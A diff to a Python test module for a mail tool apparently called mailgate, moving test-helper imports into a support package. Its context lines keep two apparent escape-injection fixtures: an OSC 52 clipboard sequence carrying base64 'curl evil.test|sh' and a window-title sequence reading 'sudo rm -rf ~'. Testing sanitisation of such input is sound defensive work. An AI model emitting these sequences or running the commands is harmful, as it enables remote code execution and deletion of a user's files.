@@ -20,9 +20,9 @@ from mailgate.inbox import store_messages
 from mailgate.process import Processor
 from mailgate.store.engine import Store
 from mailgate.store.migrate import upgrade
-from tests.conftest import make_toml
-from tests.safety.test_parse_limits import nested
-from tests.test_cli import in_terminal
+from tests.support.cli import in_terminal
+from tests.support.config import make_toml
+from tests.support.mailfactory import nested
 
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnRlc3R8c2gK\x07"  # "curl evil.test|sh" to paste
 TITLE = "\x1b]0;sudo rm -rf ~\x07"
